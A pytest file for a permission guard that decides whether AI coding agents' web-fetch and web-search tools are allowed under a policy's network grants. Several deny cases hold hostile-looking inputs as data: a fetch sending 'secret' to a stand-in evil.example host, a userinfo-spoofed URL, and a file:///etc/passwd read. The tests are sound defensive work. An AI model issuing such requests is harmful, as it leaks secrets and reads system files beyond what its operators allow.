"""The agents' web tools (WebFetch, WebSearch; Gemini's web_fetch, google_web_search) are
judged by the level's `network:` grant, its opt-in and its hosts, like `curl`."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from charter.guard.export import CLAUDE_TOOLS
from charter.guard.hook_adapters import GEMINI_TOOLS, handle_foreign
from charter.guard.hooks import handle
from tests.guard.helpers import make_repo

POLICY = """\
---
charter_policy: 1
default_level: L0
levels:
  L0:
    title: Observe
    allow: ["ls"]
  L1:
    title: Docs
    inherits: L0
    network: [docs.python.org, "*.readthedocs.io"]
  L2:
    title: Online
    inherits: L1
    env: {CHARTER_ALLOW_NET: "1"}
    network: true
---
# Autonomy policy
"""
OPT_IN = {"CHARTER_ALLOW_NET": "1"}


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path, POLICY)


def _claude(repo: Path, tool: str, tool_input: dict[str, Any], level: str, env: Any) -> Any:
    raw = json.dumps(
        {"cwd": str(repo), "hook_event_name": "PreToolUse", "tool_name": tool,
         "tool_input": tool_input}
    ).encode()  # fmt: skip
    return handle("claude-code", raw, root=str(repo), level=level, env=env)


@pytest.mark.parametrize(
    ("tool", "tool_input", "level", "env", "reason"),
    [
        ("WebFetch", {"url": "https://docs.python.org/3/"}, "L0", {}, "grants none"),
        ("WebSearch", {"query": "pytest fixtures"}, "L0", {}, "grants none"),
        ("WebFetch", {"url": "https://evil.example/?d=secret"}, "L1", {}, "not a host level L1"),
        ("WebFetch", {"url": "https://docs.python.org@evil.example/"}, "L1", {}, "userinfo"),
        ("WebFetch", {"url": "file:///etc/passwd"}, "L1", {}, "not a web address"),
        ("WebFetch", {"url": "ftp://docs.python.org/x"}, "L1", {}, "scheme"),
        ("WebFetch", {}, "L1", {}, "without a URL"),
        ("WebFetch", {"url": 7}, "L1", {}, "without a URL"),
        ("WebFetch", {"url": "https://pypi.org/simple/"}, "L2", {}, "opt-in"),
        ("WebFetch", {"url": "https://evil.example/"}, "L2", OPT_IN, "not a host level L2"),
    ],
)
def test_a_web_tool_the_level_does_not_grant_is_denied(
    repo: Path, tool: str, tool_input: dict[str, Any], level: str, env: Any, reason: str
) -> None:
    result = _claude(repo, tool, tool_input, level, env)
    assert result.exit_code == 2
    decision = json.loads(result.stdout)["hookSpecificOutput"]
    assert decision["permissionDecision"] == "deny"
    assert f"charter guard denied {tool}: " in decision["permissionDecisionReason"]
    assert reason in decision["permissionDecisionReason"]


@pytest.mark.parametrize(
    ("tool", "tool_input", "level", "env"),
    [
        ("WebFetch", {"url": "https://docs.python.org/3/library/re.html"}, "L1", {}),
        ("WebFetch", {"url": "https://charter.readthedocs.io/en/latest/"}, "L1", {}),
        ("WebSearch", {"query": "pytest fixtures"}, "L1", {}),
        ("WebFetch", {"url": "https://docs.python.org/3/"}, "L2", OPT_IN),
    ],
)
def test_a_web_tool_the_level_grants_is_left_to_the_agent(
    repo: Path, tool: str, tool_input: dict[str, Any], level: str, env: Any
) -> None:
    result = _claude(repo, tool, tool_input, level, env)
    assert (result.exit_code, result.stdout) == (0, "")


@pytest.mark.parametrize(
    ("prompt", "level", "allowed"),
    [
        ("summarise https://docs.python.org/3/ please", "L1", True),
        ("compare https://docs.python.org/3/ and https://evil.example/x.", "L1", False),
        ("read (https://docs.python.org/3/).", "L1", True),
        ("summarise docs.python.org", "L1", False),  # no URL: nothing the guard can judge
        ("summarise https://docs.python.org/3/", "L0", False),
    ],
)
def test_gemini_web_fetch_judges_every_url_of_its_prompt(
    repo: Path, prompt: str, level: str, allowed: bool
) -> None:
    raw = json.dumps(
        {"cwd": str(repo), "hook_event_name": "BeforeTool", "tool_name": "web_fetch",
         "tool_input": {"prompt": prompt}}
    ).encode()  # fmt: skip
    result = handle_foreign("gemini", raw, root=str(repo), level=level, env={})
    assert (result.exit_code == 0) is allowed


def test_the_exported_hooks_send_the_web_tools_to_the_guard() -> None:
    assert {"WebFetch", "WebSearch"} <= set(CLAUDE_TOOLS.split("|"))
    assert GEMINI_TOOLS["web_fetch"] == "WebFetch"
    assert GEMINI_TOOLS["google_web_search"] == "WebSearch"
